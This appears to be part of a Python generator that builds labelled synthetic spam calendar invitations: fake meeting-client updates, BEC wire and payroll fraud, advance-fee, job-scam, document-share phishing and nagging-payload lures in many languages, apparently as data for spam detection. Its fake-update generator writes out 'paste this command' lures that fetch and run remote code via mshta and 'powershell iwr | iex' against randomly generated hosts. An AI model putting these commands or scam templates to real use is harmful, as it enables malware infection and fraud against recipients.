    if r.random() < 0.5:
        ev["loc"] = ph if r.random() < 0.6 else "Billing: " + ph
    if r.random() < 0.15 and client in ("google", "exchange", "custom"):
        sp["method"] = "CANCEL"
        ev["summary"] = summ
    if client == "custom":
        std_custom(r, sp, plain=desc, html=html_wrap(desc))
    sp["desc"] = "Subscription/invoice callback scam, phone number only"
    return sp


T_UPDATE = {
    "en": [("Teams meeting – client update required", "Your Microsoft Teams version is outdated and cannot join this meeting. Install the update before the meeting starts:\n{url}"),
           ("Zoom: Join Board Meeting", "To join, download the latest Zoom Workplace plugin:\n{url}\nMeeting ID: {mid}"),
           ("Interview follow-up – verify your browser", "Before our call, please verify you are human:\n1. Press Windows + R\n2. Paste the command: {cmd}\n3. Press Enter\nThen open {url}"),
           ("Statement Q{q} – viewer update needed", "The shared statement requires the 2024 document viewer update.\nDownload: {url}"),
           ("Project sync – install meeting add-in", "Please install the meeting add-in before we start: {url}")],
    "ru": [("Обновление клиента для видеоконференции", "Ваша версия клиента устарела. Установите обновление перед началом встречи: {url}")],
    "pl": [("Spotkanie Teams – wymagana aktualizacja", "Twoja wersja Microsoft Teams jest nieaktualna. Zainstaluj aktualizację przed spotkaniem: {url}")],
    "ko": [("화상회의 프로그램 업데이트 필요", "회의에 참여하려면 최신 보안 플러그인을 설치하세요: {url}")],
    "hi": [("मीटिंग से पहले Zoom अपडेट करें", "इस मीटिंग में शामिल होने के लिए नया Zoom प्लगइन इंस्टॉल करें: {url}")],
    "th": [("ต้องอัปเดตโปรแกรมประชุมออนไลน์", "เวอร์ชันของคุณล้าสมัย กรุณาติดตั้งอัปเดตก่อนเริ่มการประชุม: {url}")],
}


def gen_update(b, r, lang, i):
    client = wchoice(r, {"exchange": 3, "google": 2, "custom": 3, "outlook": 2, "thunderbird": 1, "gmail": 1, "zimbra": 1, "sogo": 1})
    s, d = tpl(T_UPDATE, lang, i, r)
    clickfix = "{cmd}" in d
    sp = setup(b, r, "spam", "fake-update", "", lang, client,
               {"exchange": "compromised", "custom": r.choice(["lookalike", "junk"]), "outlook": "compromised", "thunderbird": "junk",
                "zimbra": "compromised"}.get(client, "free"),
               y=(2024.0, 2026.9) if clickfix else (2020.0, 2026.9), brand=r.choice(["zoom", "teams", "webex"]))
    fname = r.choice(["TeamsSetup_x64.msi", "ZoomWorkplace_Update.exe", "MeetingAddin.zip", "DocViewer2024.msix", "webex_plugin.exe"])
    dom = r.choice(["teams-%s.%s", "zoom-%s.%s", "%s-meeting.%s", "update-%s.%s"]) % (r.choice(["update", "download", "join", "live", "cdn"]), r.choice(["com", "net", "live", "app", "us"]))
    url = "https://%s/%s" % (dom, fname) if r.random() < 0.6 else hosted_url(r, r.choice(["r2", "s3", "blob", "pages"])).rsplit("/", 1)[0] + "/" + fname
    cmd = 'mshta https://%s/%s # I am not a robot - reCAPTCHA ID: %s' % (junk_domain(r), r.lower(6), r.digits(4)) if r.random() < 0.5 else \
        'powershell -w h -c "iwr https://%s/%s.ps1 | iex"' % (rand_domain(r), r.lower(5))
    v = V(url=url, mid="%s %s %s" % (r.digits(3), r.digits(4), r.digits(4)), cmd=cmd, q=r.randint(1, 4))
    summ, desc = fill(s, v), fill(d, v)
    ev = b.event(sp, summ, desc, days=(0, 3), hour=(9, 17), dur=r.choice([30, 45, 60]), organizer=ev_org(sp), others=r.choice([0, 2, 5]))
    mode = pick_place(r, client, ["attach", "conf", "loc", "desc"])
    if client == "custom" and r.random() < 0.5:
        mode = "conf"
    place(sp, ev, mode, url, "Join meeting", fmt=r.choice(["application/x-msdownload", "application/zip", "application/octet-stream"]), fname=fname)
    if client == "custom":
        std_custom(r, sp, html=html_wrap(desc, url, "Update now", "#464EB8"), plain=desc)
    sp["desc"] = ("Fake CAPTCHA 'paste this command' lure" if clickfix else "Fake meeting-client update (%s)" % fname)
    return sp


T_BEC = {
    "en": [("Quick favour", "Are you at your desk? I need you to handle a task for me discreetly. I'm in meetings all day, reply by email only.\n\n{sender}\nSent from my iPhone"),
           ("Updated remittance details – {co}", "Dear {name},\n\nPlease note our banking details have changed following our annual audit. All pending and future invoices should be paid to the account below:\n\nBank: {bankname}\nIBAN: {iban}\nBIC: {bic}\n\nKindly confirm once your records are updated.\n\nRegards,\n{sender}\nAccounts Receivable, {co}"),
           ("Direct deposit update", "Hi {name},\nI changed banks and would like my salary paid into my new account before the next payroll run. What do you need from me?\nThanks,\n{sender}"),
           ("Confidential – acquisition payment", "{name},\nI need you to process a wire today for a confidential acquisition ({amt}). Our attorney will contact you with the details. Please don't discuss this with anyone until it is announced.\n{sender}"),
           ("Overdue invoice {code} – second reminder", "Hello,\nInvoice {code} ({amt}) is still open in our ledger. Note that remittance must go to our new account {iban} as the old one is under review.\nBest regards,\n{sender}"),
           ("Staff appreciation", "I'd like to surprise some of the team with gift cards today. Could you pick up 6 Apple gift cards of $200 each? I will reimburse you. Keep it quiet for now.\n{sender}"),
           ("Call with {sender}", "Please send me your WhatsApp number, I need to discuss something urgent with you today.")],
    "de": [("Dringend: vertrauliche Überweisung", "Hallo {name},\nich brauche heute noch Ihre Unterstützung bei einer vertraulichen Zahlung ({amt}) im Rahmen einer Übernahme. Bitte nur per E-Mail antworten, ich bin in Besprechungen.\n{sender}")],
    "fr": [("Changement de coordonnées bancaires", "Bonjour {name},\nSuite à un audit, nos coordonnées bancaires ont changé. Merci d'effectuer les prochains règlements sur le compte suivant :\nIBAN : {iban}\nBIC : {bic}\nCordialement,\n{sender}")],
    "es": [("Actualización de nómina", "Hola {name}, he cambiado de banco. ¿Puedes actualizar mi cuenta para la próxima nómina? El nuevo IBAN es {iban}. Gracias, {sender}")],
    "it": [("Richiesta urgente", "Ciao {name}, sei in ufficio? Ho bisogno che tu gestisca un pagamento riservato oggi. Rispondimi solo via email.\n{sender}")],
    "nl": [("Gewijzigde bankgegevens", "Beste {name},\nWegens een bankwissel verzoeken wij u openstaande facturen over te maken naar {iban} t.n.v. {co}. Graag uw bevestiging.\nMet vriendelijke groet,\n{sender}")],
    "ja": [("至急のお願い", "{name}さん\n今お時間ありますか。極秘の案件で本日中に振込をお願いしたいです。会議中のためメールでのみ返信ください。\n{sender}")],
    "ar": [("تحديث بيانات الحساب البنكي", "عزيزي {name}،\nنود إبلاغكم بتغيير حسابنا البنكي. يرجى تحويل الفواتير المستحقة إلى الحساب التالي:\n{iban}\nمع التحية،\n{sender}")],
}
IBAN_CC = {"en": ["GB", "LT", "HK"], "de": ["DE", "LT"], "fr": ["FR", "BE"], "es": ["ES", "PT"], "it": ["IT"], "nl": ["NL", "BE"],
           "ja": ["JP"], "ar": ["AE"]}


def gen_bec(b, r, lang, i):
    client = wchoice(r, {"exchange": 4, "gmail": 1, "google": 2, "outlook": 1, "icloud": 1, "yahoo": 1, "applemail": 0.5, "thunderbird": 1})
    rc = b.recipient(lang)
    rdom = rc["addr"].split("@")[1]
    exec_name = person(r, lang)
    s, d = tpl(T_BEC, lang, i, r)
    supplier = "remittance" in d or "IBAN" in d or "iban" in d
    if client in ("exchange", "outlook", "thunderbird", "applemail") and r.random() < 0.8:
        if supplier:
            on, odom = org(r, lang)
            dom = company_lookalike(r, odom)
            dmode = "lookalike"
        else:
            dom = company_lookalike(r, rdom)
            dmode = "lookalike"
            on = None
    else:
        dom = None
        dmode = "free"
        on = None
    lp = local_part(r, exec_name[1], exec_name[2], "f.l") if dom else "%s.%s%s" % (exec_name[1], exec_name[2], r.choice(["", ".ceo", ".office", "1", str(r.randint(10, 99)), ".exec"]))
    sp = setup(b, r, "spam", "bec", "", lang, client, dmode, rcpt=rc, name=exec_name[0],
               localpart=lp, y=(2016.0, 2026.9),
               lookalike_domain=dom)
    if r.random() < 0.5:
        sp["reply_to"] = (exec_name[0], "%s.%s%d@%s" % (exec_name[1], r.choice(["office", "ceo", "exec", "private"]), r.randint(1, 99), r.choice(["gmail.com", "outlook.com", "proton.me"])))
    co = on or sp["snd"].get("org") or org(r, lang)[0]
    v = V(name=rc["first"], sender=exec_name[0], co=co, iban=iban(r, r.choice(IBAN_CC[lang])), bic=r.alnum(8, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"),
          bankname=r.choice(["Revolut Bank UAB", "Wise Europe SA", "Citibank N.A.", "Banco Santander", "Metro Bank"]),
          amt=money(r, lang, 18000, 96000, cents=False), code="INV-" + r.digits(5))
    summ, desc = fill(s, v), fill(d, v)
    ev = b.event(sp, summ, desc, days=(0, 1), hour=(8, 16), dur=r.choice([15, 30]), organizer=ev_org(sp), others=0)
    if client in ("exchange", "outlook"):
        sp["note"] = desc
    sp["desc"] = "BEC: %s from %s" % ("supplier bank-detail change" if supplier else ("payroll change" if "salary" in d or "nómina" in d else "executive impersonation"),
                                       "look-alike domain %s" % dom if dom else "free-mail account")
    return sp


T_AFF = {
    "en": [("Re: Unclaimed inheritance – {amt}", "Dear friend,\nI am Barrister {sender}, personal attorney to the late engineer {last}, who died with his family in a car accident. He left {amt} with no next of kin. I seek your consent to present you as the beneficiary. Reply to my private email: {reply}"),
           ("UN Compensation Payment Notification", "Your email was selected among the beneficiaries of the compensation fund of {amt}. Contact the paying officer at {reply} with your full name, address and phone number."),
           ("Donation for you", "I am a widow suffering from cancer and I want to donate {amt} to charity through you. Contact me: {reply}"),
           ("Business proposal – confidential", "I am a bank manager with a proposal worth {amt} to both of us. Respond for details: {reply}"),
           ("ATM card delivery", "Your ATM card loaded with {amt} has been approved for delivery. Contact the courier desk at {reply} and pay only the shipping fee.")],
    "ar": [("عرض استثماري سري", "أنا مدير مصرف ولدي صفقة بقيمة {amt} تعود بالنفع علينا. للتفاصيل راسلني على بريدي الخاص: {reply}")],
    "ru": [("Наследство без наследника – {amt}", "Уважаемый друг, я адвокат покойного клиента, оставившего {amt} без наследников. Прошу вашего согласия выступить получателем. Ответьте на мой личный адрес: {reply}")],
    "zh": [("合作提案（机密）", "您好，我是一家银行的审计经理，有一笔{amt}的无人认领资金，希望与您合作转出。详情请回复：{reply}")],
    "el": [("Ειδοποίηση αποζημίωσης", "Η διεύθυνσή σας επιλέχθηκε για αποζημίωση ύψους {amt}. Επικοινωνήστε με τον υπεύθυνο πληρωμών: {reply}")],
    "hi": [("आपके नाम पर {amt} का फंड स्वीकृत", "अंतरराष्ट्रीय मुआवजा कोष से आपके लिए {amt} स्वीकृत हुए हैं। केवल प्रोसेसिंग शुल्क देकर राशि प्राप्त करें। संपर्क करें: {reply}")],
}


def gen_aff(b, r, lang, i):
    client = wchoice(r, {"gmail": 2, "yahoo": 1, "exchange": 2, "custom": 2, "zimbra": 2, "thunderbird": 1, "google": 1, "sogo": 1, "outlook": 1})
    sp = setup(b, r, "spam", "advance-fee", "", lang, client,
               {"exchange": "free", "custom": "junk", "zimbra": "compromised", "thunderbird": "compromised", "sogo": "compromised"}.get(client, "free"),
               y=(2016.0, 2026.9), name=r.choice([None, "Barrister James Okafor", "Mrs. Helen Carter", "Dr. Ahmed Salem", "UN Payment Office"]))
    s, d = tpl(T_AFF, lang, i, r)
    reply = "%s%d@%s" % (r.choice(["barr.j", "office.claims", "mrs.helen", "paying.officer", "dr.salem", "remit.desk"]), r.randint(1, 999),
                         r.choice(["gmail.com", "outlook.com", "yahoo.com", "proton.me", "aol.com", "gmx.com"]))
    v = V(amt=r.choice(["US$%.1f million" % r.uniform(2.5, 27), "$%d,500,000.00" % r.randint(2, 19), "€%d.000.000" % r.randint(3, 12)]),
          sender=sp["frm"][0], last=r.choice(["Williams", "Kowalski", "Moreau", "Hassan"]), reply=reply)
    summ, desc = fill(s, v), fill(d, v)
    sp["reply_to"] = ("", reply)
    ev = b.event(sp, summ, desc, days=(0, 4), hour=(6, 22), dur=60, organizer=ev_org(sp), others=r.choice([0, 0, 8, 40]))
    if client == "custom":
        std_custom(r, sp, plain=desc, html=html_wrap(desc))
    sp["desc"] = "Advance-fee fraud, reply address %s" % reply.split("@")[1]
    return sp


T_TASK = {
    "en": [("Remote part-time job – earn $200-$500/day", "Hi {name}, I'm a recruiter from {agency}. We offer flexible online tasks (rating products and apps). 60-90 minutes a day, paid daily.\nContact our HR on WhatsApp: {wa}"),
           ("Interview invitation – Data Entry Clerk", "Your resume was shortlisted. The interview will take place on Telegram.\nAdd the hiring manager: {tg}"),
           ("Job offer: Online Task Assistant", "Work from home, no experience needed. Salary paid daily in USDT.\nSend 'JOB' to {wa} on WhatsApp."),
           ("Hiring: App Optimization Specialist (remote)", "Complete 40 simple tasks per day and earn commission. Message Ms. {sender} on Telegram {tg} to get started."),
           ("Your application was received", "Thank you for applying. Please install Telegram and contact {tg} to continue onboarding.")],
    "hi": [("वर्क फ्रॉम होम जॉब – रोज़ ₹3000-₹8000 कमाएं", "नमस्ते {name}, हमारी कंपनी ऑनलाइन टास्क के लिए लोग ढूंढ रही है। रोज़ाना भुगतान। WhatsApp पर संपर्क करें: {wa}")],
    "th": [("งานออนไลน์รายได้ดี รับเงินทุกวัน", "สวัสดีค่ะ คุณ{name} บริษัทของเรากำลังรับสมัครพนักงานทำงานออนไลน์ วันละ 1-2 ชั่วโมง ติดต่อทาง LINE: {line}")],
    "ko": [("재택 부업 모집 – 일당 지급", "{name}님, 간단한 온라인 업무로 하루 10만원 이상 수입 가능합니다. 카카오톡 ID: {kakao} 로 연락 주세요.")],
    "zh-tw": [("線上兼職工作邀請", "您好，我們正在招募線上兼職人員，每天1小時，日結薪資。請加LINE：{line} 了解詳情。")],
    "tr": [("Evden çalışma fırsatı – günlük ödeme", "Merhaba {name}, basit online görevler için eleman arıyoruz. Günde 1 saat, günlük ödeme. WhatsApp: {wa}")],
    "he": [("משרה מהבית – תשלום יומי", "שלום {name}, אנחנו מגייסים לעבודה אונליין פשוטה, שעה ביום ותשלום יומי. לפרטים בוואטסאפ: {wa}")],
}


def gen_task(b, r, lang, i):
    client = wchoice(r, {"google": 3, "gmail": 1, "icloud": 1, "yahoo": 1, "exchange": 2, "zoom": 2, "custom": 1})
    sp = setup(b, r, "spam", "task-job-scam", "", lang, client, "free" if client != "custom" else "junk", y=(2021.0, 2026.9),
               name=r.choice([None, None, "HR Recruitment", "Talent Team"]))
    s, d = tpl(T_TASK, lang, i, r)
    wa_num = phone(r, r.choice(["uk", "us", LANG_CC[lang]])).replace("(", "").replace(")", "")
    wa = r.choice([wa_num, "https://wa.me/%s" % "".join(c for c in wa_num if c.isdigit())])
    tg = r.choice(["@%s_%s" % (r.choice(["hr", "recruit", "lisa", "amy", "jobdesk"]), r.lower(5)), "https://t.me/%s%s" % (r.choice(["hr_", "career", "mia"]), r.lower(6))])
    v = V(name=sp["rcpt_info"]["first"], agency=r.choice(["Adecco", "Randstad", "Hays", "Robert Half", "a leading staffing agency"]),
          wa=wa, tg=tg, sender=r.choice(["Lisa", "Amy", "Jessica", "Sophia"]), line="@" + r.lower(8), kakao=r.lower(9))
    summ, desc = fill(s, v), fill(d, v)
    ev = b.event(sp, summ, desc, days=(0, 3), hour=(9, 20), dur=r.choice([30, 60]), organizer=ev_org(sp), others=r.choice([0, 0, 6]))
    if r.random() < 0.3:
        ev["loc"] = "WhatsApp " + wa_num if "wa" in d else "Telegram " + tg
    if client == "zoom":
        sp["zm_type"] = "meeting_invite"
        sp["method"] = "PUBLISH"
    if client == "custom":
        std_custom(r, sp, plain=desc, html=html_wrap(desc))
    sp["desc"] = "Task/job scam moving victim to a messenger"
    return sp


T_DOC = {
    "en": [("{co} – proposal documents for review", "Hi {name},\n\nPlease find our updated proposal and pricing in the shared folder below. Let me know if you have trouble opening it.\n\nView documents: {url}\n\nKind regards,\n{sender}\n{title}\n{co}\n{phone}"),
           ("Shared: {doc}", "{sender} shared a file with you.\n\n{doc}\nOpen: {url}\n\nThis link only works for people at {rdom}."),
           ("Review call – signed contract copy", "Hello,\nAhead of our call, here is the signed contract for your records (secure link):\n{url}\nThanks,\n{sender}\n{co}"),
           ("Payment remittance advice", "Good afternoon,\nOur accounts team has released payment. The remittance advice is available here: {url}\nRegards,\n{sender}\n{co}"),
           ("{co} sent you a secure document", "A secure document (3 pages) is waiting for you.\nReview: {url}\n{sender} | {co}")],
    "de": [("Angebotsunterlagen {co}", "Hallo {name},\n\nanbei wie besprochen unsere Angebotsunterlagen als geteilte Datei. Bitte melden Sie sich mit Ihrem Firmenkonto an, um sie zu öffnen:\n{url}\n\nMit freundlichen Grüßen\n{sender}\n{co}")],
    "es": [("Documentación del pedido – {co}", "Hola {name},\nte comparto la documentación del pedido y la factura proforma en el siguiente enlace:\n{url}\nUn saludo,\n{sender}\n{co}")],
    "pt": [("Proposta comercial – {co}", "Olá {name},\nsegue a proposta atualizada em pasta compartilhada. Qualquer dúvida estou à disposição.\n{url}\nAtenciosamente,\n{sender}\n{co}")],
    "pl": [("Dokumenty do przeglądu – {co}", "Dzień dobry,\nprzesyłam dokumenty do przeglądu przed spotkaniem. Link do folderu: {url}\nPozdrawiam,\n{sender}\n{co}")],
    "tr": [("Teklif dosyaları – {co}", "Merhaba {name},\ngüncel teklif ve fiyat listesini aşağıdaki paylaşılan klasörde bulabilirsiniz:\n{url}\nSaygılarımla,\n{sender}\n{co}")],
    "el": [("Έγγραφα προσφοράς – {co}", "Καλησπέρα {name},\nσας στέλνω την ενημερωμένη προσφορά σε κοινόχρηστο φάκελο:\n{url}\nΜε εκτίμηση,\n{sender}\n{co}")],
}


def gen_docshare(b, r, lang, i):
    client = wchoice(r, {"exchange": 4, "google": 2, "outlook": 2, "zimbra": 2, "thunderbird": 1, "sogo": 1, "nextcloud": 1, "applemail": 1})
    sp = setup(b, r, "spam", "compromised-docshare", "", lang, client, "compromised", y=(2018.0, 2026.9))
    s, d = tpl(T_DOC, lang, i, r)
    k = r.random()
    if k < 0.3:
        url = "https://%s-my.sharepoint.com/:b:/g/personal/%s/%s" % (sp["snd"]["domain"].split(".")[0].replace("-", ""), sp["snd"]["addr"].split("@")[0].replace(".", "_"), r.alnum(40))
        how = "real file-share link leading to a phishing page"
    elif k < 0.5:
        url = hosted_url(r, r.choice(["notion", "canva", "forms", "workers"]))
        how = "link to abused hosting service"
    else:
        url = "https://%s%s" % (lookalike(r, r.choice(["sharepoint", "onedrive", "docs", "wetransfer", "office"])), track_path(r))
        how = "link to look-alike login page"
    co = sp["snd"].get("org") or "Company"
    v = V(name=sp["rcpt_info"]["first"], co=co, url=url, sender=sp["snd"]["name"], doc=r.choice(DOCS) % r.digits(4),
          title=r.choice(["Sales Manager", "Project Coordinator", "Procurement", "Accounts Payable", "Director"]),
          phone=phone(r, LANG_CC[lang] if lang != "en" else "us"), rdom=sp["rcpt"].split("@")[1])
    summ, desc = fill(s, v), fill(d, v)
    ev = b.event(sp, summ, desc, days=(0, 3), hour=(9, 16), dur=r.choice([30, 30, 60]), organizer=ev_org(sp), others=r.choice([0, 3, 11, 25]))
    mode = pick_place(r, client, ["desc", "desc", "attach", "loc", "url"])
    if mode != "desc":
        place(sp, ev, mode, url, "Open", fname=v["doc"])
    if client in ("exchange", "outlook") and r.random() < 0.5:
        sp["link_text"] = {url: r.choice(["View documents", "Open in OneDrive", v["doc"]])}
    sp["desc"] = "Document-share lure from compromised partner mailbox, %s" % how
    return sp


T_NAG = {
    "en": [("Your $500 casino bonus is waiting", "Daily reminder: claim 200 free spins + $500 bonus today.\n{url}"),
           ("Cheap meds online – no prescription", "Viagra / Cialis from $0.89 per pill. Discreet worldwide delivery.\n{url}"),
           ("Instant loan approved: {amt}", "Your pre-approved loan is waiting. Claim it before it expires:\n{url}"),
           ("REMINDER: claim your reward NOW", "This reminder will repeat until you claim your reward.\n{url}")],
    "zh": [("【澳门赌场】注册即送888元", "每日提醒：注册即送彩金，日赚千元。\n{url}")],
    "ja": [("【毎日配信】副業で月収100万円", "今すぐ無料登録して始めましょう。\n{url}")],
    "th": [("แจกเครดิตฟรี 500 บาท สล็อตเว็บตรง", "สมัครวันนี้รับโบนัสทันที ถอนได้ไม่อั้น\n{url}")],
    "ru": [("Займ одобрен: {amt} без проверки", "Получите деньги на карту за 5 минут.\n{url}")],
}


def gen_nag(b, r, lang, i):
    client = wchoice(r, {"custom": 4, "google": 2, "icloud": 1, "outlook": 1, "thunderbird": 1, "yahoo": 1})
    sp = setup(b, r, "spam", "nagging-payload", "", lang, client, "free" if client in ("google", "icloud", "yahoo") else "junk",
               y=(2016.0, 2026.9))
    s, d = tpl(T_NAG, lang, i, r)
    url = junk_url(r) if r.random() < 0.6 else short_url(r)
    v = V(url=url, amt=money(r, lang, 500, 5000, cents=False))
    summ, desc = fill(s, v), fill(d, v)
    trick = r.choice(["endless", "alarms", "farfuture", "endless-alarms"])
    kw = {}
    if trick == "farfuture":
        kw["start"] = dt.datetime(r.choice([2038, 2050, 2099, 2124]), r.randint(1, 12), r.randint(1, 28), r.randint(8, 20), 0)
    ev = b.event(sp, summ, desc, days=(0, 1), hour=(6, 22), dur=r.choice([5, 15, 60, 1440]), organizer=ev_org(sp),
                 others=r.choice([0, 0, 15]), **kw)
    if trick in ("endless", "endless-alarms", "farfuture"):
        ev["rrule"] = r.choice(["FREQ=DAILY", "FREQ=HOURLY", "FREQ=DAILY;INTERVAL=1", "FREQ=MINUTELY;INTERVAL=30", "FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU"])
    n_al = r.randint(8, 40) if trick in ("alarms", "endless-alarms") else r.randint(1, 3)
    ev["alarms"] = [{"trigger": "-PT%dM" % (m * r.choice([1, 5, 10])), "action": r.choice(["DISPLAY", "DISPLAY", "AUDIO"]),
                     "desc": summ, "repeat": r.choice([0, 0, 99, 999])} for m in range(n_al)]
    if trick == "farfuture" and r.random() < 0.5:
        ev["rrule"] = None
    place(sp, ev, pick_place(r, client, ["url", "loc", "desc"]), url)
    if client in ("custom", "icloud", "outlook", "thunderbird") and r.random() < 0.5:
        for k in range(r.randint(2, 6)):
            e2 = b.event(sp, summ, desc, start=ev["start"] + dt.timedelta(days=k + 1, hours=r.randint(-3, 3)), dur=ev["end"].minute or 30,
                         organizer=ev_org(sp), attendees=ev["attendees"], alarms=ev["alarms"][:3])
            e2["url"] = ev.get("url")
    if client == "custom":
        if r.random() < 0.4:
            for e in sp["events"]:
                e["todo"] = True
        std_custom(r, sp, plain=desc, html=html_wrap(desc, url, ">>>", "#c00"))
    sp["desc"] = "Nagging payload (%s) pushing %s" % (trick, "gambling/pharma/loan")
    return sp


T_MASS = {
    "en": [("SEO services – rank #1 on Google in 30 days", "We help businesses reach page 1. Reply for a free audit.\n{url}"),
           ("FREE trading signals – Telegram group", "Join 50,000 members getting daily signals:\n{url}"),
           ("Get 10K real followers for $29", "Instagram / TikTok growth, instant delivery.\n{url}"),
           ("Free webinar: make money online with AI", "Seats are limited, register now:\n{url}"),
           ("B2B email leads database 2024 – 40M contacts", "Verified contacts by industry and country. Contact us: {url}")],
    "ar": [("انضم إلى قناتنا على تيليجرام – توصيات يومية", "أكثر من 50 ألف عضو. انضم الآن:\n{url}")],
    "hi": [("मुफ्त ट्रेडिंग टिप्स – टेलीग्राम ग्रुप जॉइन करें", "रोज़ाना 3 पक्के टिप्स। अभी जुड़ें:\n{url}")],
}


def gen_mass(b, r, lang, i):
    client = wchoice(r, {"google": 4, "icloud": 1, "exchange": 1, "custom": 1})
    sp = setup(b, r, "spam", "mass-invite", "", lang, client, "free" if client != "custom" else "junk",
               y=(2016.0, 2026.9))
    s, d = tpl(T_MASS, lang, i, r)
    url = r.choice([junk_url(r), short_url(r), "https://t.me/+%s" % r.alnum(16)])
    v = V(url=url)
    summ, desc = fill(s, v), fill(d, v)
    addrs = mass_attendees(r, sp["rcpt_info"], r.randint(150, 520), same_domain=False, sort=r.random() < 0.5)
    ev = b.event(sp, summ, desc, days=(0, 2), hour=(6, 22), dur=60, organizer=ev_org(sp),
                 attendees=att_tuples(ev_org(sp), addrs))
    if client == "custom":
        std_custom(r, sp, plain=desc, html=html_wrap(desc))
    sp["desc"] = "Invitation to %d unrelated attendees" % len(addrs)
    return sp


CATS = [
    ("retail-sale", gen_retail, ["en"] * 7 + ["de", "fr", "es", "it", "nl", "ja", "zh-tw"], "Retail sale waves (sunglasses, boots, handbags) to harvested address lists"),
    ("prize-survey", gen_prize, ["en"] * 6 + ["pt", "pl", "ru", "ar", "tr", "th"], "Prize, gift-card and survey lures"),
    ("crypto-investment", gen_crypto, ["en"] * 6 + ["de", "ru", "ko", "zh", "hi", "tr"], "Crypto and investment fraud, fake withdrawals and trading webinars"),
    ("dating-sextortion", gen_dating, ["en"] * 5 + ["es", "fr", "el", "ja", "he"], "Dating lures and sextortion demands"),
    ("fee-scam", gen_fee, ["en"] * 6 + ["de", "fr", "it", "es", "nl", "pl", "pt"], "Delivery, toll, tax-refund and fine fee scams"),
    ("credential-phishing", gen_cred, ["en"] * 8 + ["de", "fr", "ja", "ko", "zh", "ar", "el", "he"], "Credential phishing under Microsoft 365, DocuSign, PayPal, banks, Adobe, Dropbox"),
    ("callback-scam", gen_callback, ["en"] * 6 + ["de", "fr", "it", "nl", "pt", "zh-tw"], "Subscription-renewal and tech-support callback scams (phone only)"),
    ("fake-update", gen_update, ["en"] * 5 + ["ru", "pl", "ko", "hi", "th"], "Fake meeting-client updates and 'paste this command' lures"),
    ("bec", gen_bec, ["en"] * 7 + ["de", "fr", "es", "it", "nl", "ja", "ar"], "Business e-mail compromise: CEO fraud, gift cards, bank-detail and payroll changes"),
    ("advance-fee", gen_aff, ["en"] * 5 + ["ar", "ru", "zh", "el", "hi"], "Advance-fee fraud (inheritance, compensation, donations)"),
    ("task-job-scam", gen_task, ["en"] * 5 + ["hi", "th", "ko", "zh-tw", "tr", "he"], "Task/job scams moving victims to WhatsApp/Telegram/LINE"),
    ("compromised-docshare", gen_docshare, ["en"] * 5 + ["de", "es", "pt", "pl", "tr", "el"], "Document-share lures from compromised partner mailboxes"),
    ("nagging-payload", gen_nag, ["en"] * 4 + ["zh", "ja", "th", "ru"], "Endless recurrence, alarm floods and far-future events"),
    ("mass-invite", gen_mass, ["en"] * 5 + ["ar", "hi"], "Invitations to hundreds of unrelated attendees"),
]


def build(b, r, target=None):
    import collections
    import mk
    if target:
        mk.BAL.update({"target": target, "cur": collections.Counter(), "total": sum(target.values()), "done": 0})
    out = []
    for cat, fn, langs, _ in CATS:
        for i, lang in enumerate(langs):
            sp = fn(b, r, lang, i)
            out.append(sp)
            if mk.BAL:
                mk.BAL["cur"][sp["client"]] += 1
                mk.BAL["done"] += 1
    mk.BAL.clear()
    return out


LIST_HOSTS = [("members", "lists.thornbury.org", "Thornbury Members"), ("alumni", "lists.uni-north.example.edu", "Alumni Network"),
              ("devs", "lists.kestrel-labs.io", "Kestrel Dev"), ("vorstand", "lists.lindenhof.at", "Vorstand"),
              ("club", "lists.foxhollow.net", "Foxhollow Cycling Club"), ("staff", "lists.brightwellhealth.org", "Brightwell Staff")]


def post(b, r, specs):
    """A few spam messages reach the recipient through an open mailing list."""
    cands = [s for s in specs if s["label"] == "spam" and s["cat"] in ("retail-sale", "prize-survey", "crypto-investment", "mass-invite", "task-job-scam", "advance-fee")
             and s["client"] not in ("zoom",)]
    for sp in r.sample(cands, 7):
        name, dom, title = r.choice(LIST_HOSTS)
        sp["list"] = {"name": name, "domain": dom, "title": title, "resign": r.random() < 0.3, "munge": r.random() < 0.3,
                      "host": "mail." + dom.split(".", 1)[1]}
        sp["desc"] += " (arrived via open mailing list %s@%s)" % (name, dom)
